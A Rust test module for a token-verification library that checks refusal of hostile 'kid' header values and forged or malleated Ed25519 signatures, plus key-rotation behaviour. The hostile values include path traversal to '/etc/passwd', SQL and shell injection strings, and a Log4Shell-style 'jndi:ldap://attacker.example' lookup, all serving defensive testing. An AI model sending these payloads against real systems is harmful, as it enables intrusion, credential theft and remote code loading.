//! Which key: names that lead elsewhere, signatures of the wrong one, and keys that come and go.

use serde_json::json;

use crate::forge::{
    APP, Case, Decision, Forge, Key, LIFE, NOW, at, claims, decide, decode, encode, issue, key_set,
    parts, without,
};
use reportapp_session::Tokens;

pub(crate) fn cases(forge: &Forge) -> Vec<Case> {
    let mut cases = names(forge);
    cases.extend(signatures(forge));
    cases.extend(rotation(forge));
    cases
}

/// Key names that would be dangerous as a path, a query or a command; the signature is ours.
fn names(forge: &Forge) -> Vec<Case> {
    let kid = &forge.kid;
    let dangerous = [
        json!("../../../../dev/null"),
        json!("/etc/passwd"),
        json!("signing.pem"),
        json!("verify-0.pem"),
        json!("file:///proc/self/environ"),
        json!("https://attacker.example/key"),
        json!("' OR '1'='1"),
        json!("x' UNION SELECT 'key'--"),
        json!("x\"; DROP TABLE keys; --"),
        json!("|/bin/sh"),
        json!("$(id)"),
        json!("${jndi:ldap://attacker.example/a}"),
        json!("%00"),
        json!("*"),
        json!(""),
        json!("0"),
        json!(format!("{kid}\u{0}")),
        json!(format!("{kid} ")),
        json!(format!(" {kid}")),
        json!(format!("{kid}/../{kid}")),
        json!(format!("{kid}{kid}")),
        json!(kid.to_uppercase()),
        json!(kid.to_lowercase()),
        json!(kid[..kid.len() - 1]),
        json!(null),
        json!(0),
        json!(true),
        json!([kid]),
        json!({"kid": kid}),
    ];
    let mut cases: Vec<Case> = dangerous
        .into_iter()
        .map(|name| {
            let header = forge.header_with("kid", name.clone());
            Case::refused(
                format!("kid {name}, signed by us"),
                forge.with_header(&header),
            )
        })
        .collect();
    let header = without(&forge.header(), "kid");
    cases.push(Case::refused(
        "no kid, signed by us",
        forge.with_header(&header),
    ));
    let header = forge.header_with("kid", json!("k".repeat(4_000)));
    cases.push(Case::refused(
        "a kid of 4000 letters",
        forge.with_header(&header),
    ));
    cases
}

fn signatures(forge: &Forge) -> Vec<Case> {
    let good = forge.good();
    let [header, payload, signature] = parts(&good);
    let bytes = decode(signature);
    let with = |bytes: &[u8]| format!("{header}.{payload}.{}", encode(bytes));
    let message = format!("{header}.{payload}");
    let (r, s) = bytes.split_at(32);
    let mut cases = vec![
        Case::refused("our kid, a foreign signature", {
            forge
                .foreign
                .sign(forge.header().to_string(), claims().to_string())
        }),
        Case::refused("no signature", format!("{message}.")),
        Case::refused("no signature and no dot", message.clone()),
        Case::refused("a signature of zeros", with(&[0; 64])),
        Case::refused("a signature of ones", with(&[0xff; 64])),
        Case::refused("half a signature", with(r)),
        Case::refused("a signature too short by one", with(&bytes[..63])),
        Case::refused(
            "a signature too long by one",
            with(&[&bytes[..], &[0]].concat()),
        ),
        Case::refused("the signature twice", with(&bytes.repeat(2))),
        Case::refused("R and S exchanged", with(&[s, r].concat())),
        Case::refused(
            "S raised by the order of the group",
            with(&[r, &plus_order(s)].concat()),
        ),
        Case::refused("R the neutral point and S zero", with(&neutral())),
        Case::refused(
            "the public key as signature",
            with(&forge.own.public().repeat(2)),
        ),
        Case::refused(
            "a signature over the payload alone",
            with(&forge.own.signature(payload)),
        ),
        Case::refused("a signature over the decoded text", {
            let decoded = [decode(header), b".".to_vec(), decode(payload)].concat();
            with(&forge.own.signature(&String::from_utf8(decoded).unwrap()))
        }),
        Case::refused("the signature of another token", {
            let other = forge.with_claims(&claims());
            format!("{message}.{}", parts(&other)[2])
        }),
        Case::refused("the payload of another token", {
            let other = forge.with_claims(&claims());
            format!("{header}.{}.{signature}", parts(&other)[1])
        }),
    ];
    for bit in [0, 7, 128, 255, 256, 300, 510, 511] {
        let mut flipped = bytes.clone();
        flipped[bit / 8] ^= 1 << (bit % 8);
        let name = format!("bit {bit} of the signature flipped");
        cases.push(Case::refused(name, with(&flipped)));
    }
    cases
}

/// The same number modulo the order of the group: the other signature a lax reader takes.
fn plus_order(s: &[u8]) -> Vec<u8> {
    /// 2^252 + 27742317777372353535851937790883648493, little-endian (RFC 8032, section 5.1).
    const ORDER: [u8; 32] = [
        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde,
        0x14, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
    ];
    let mut carry = 0;
    let digits = s.iter().zip(ORDER).map(|(digit, order)| {
        let sum = u16::from(*digit) + u16::from(order) + carry;
        carry = sum >> 8;
        sum.to_le_bytes()[0]
    });
    digits.collect()
}

fn neutral() -> [u8; 64] {
    let mut signature = [0; 64];
    signature[0] = 1;
    signature
}

/// Overlap while keys rotate: each token by the key it names, as long as that is accepted.
fn rotation(forge: &Forge) -> Vec<Case> {
    let retired = Tokens::new(APP, LIFE, key_set(&forge.retired, &[]));
    let removed = Tokens::new(APP, LIFE, key_set(&forge.foreign, &[]));
    let retired_kid = retired.keys().signing_id();
    let header = forge.header_with("kid", json!(retired_kid));
    let expired = Case {
        now: NOW + 700,
        ..Case::new(
            "of a retired key, expired",
            issue(&retired),
            Decision::Expired,
        )
    };
    vec![
        Case::new("ours", forge.good(), Decision::Valid),
        Case::new("of a retired key", issue(&retired), Decision::Valid),
        expired,
        Case::refused("of a key that is not accepted", issue(&removed)),
        Case::refused(
            "the retired key named, ours used",
            forge.with_header(&header),
        ),
        Case::refused("our key named, the retired one used", {
            forge
                .retired
                .sign(forge.header().to_string(), claims().to_string())
        }),
    ]
}

#[test]
fn a_token_lives_through_a_rotation_and_not_beyond_its_key() {
    let (old, new) = (Key::new(), Key::new());
    let before = Tokens::new(APP, LIFE, key_set(&old, &[]));
    let announced = Tokens::new(APP, LIFE, key_set(&old, &[&new.public_pem]));
    let switched = Tokens::new(APP, LIFE, key_set(&new, &[&old.public_pem]));
    let after = Tokens::new(APP, LIFE, key_set(&new, &[]));
    let (earlier, later) = (issue(&before), issue(&switched));
    let decisions = |token: &str| {
        [&before, &announced, &switched, &after].map(|tokens| decide(tokens, token, at(NOW)))
    };
    use Decision::{Invalid, Valid};
    assert_eq!(decisions(&earlier), [Valid, Valid, Valid, Invalid]);
    assert_eq!(decisions(&later), [Invalid, Valid, Valid, Valid]);
}
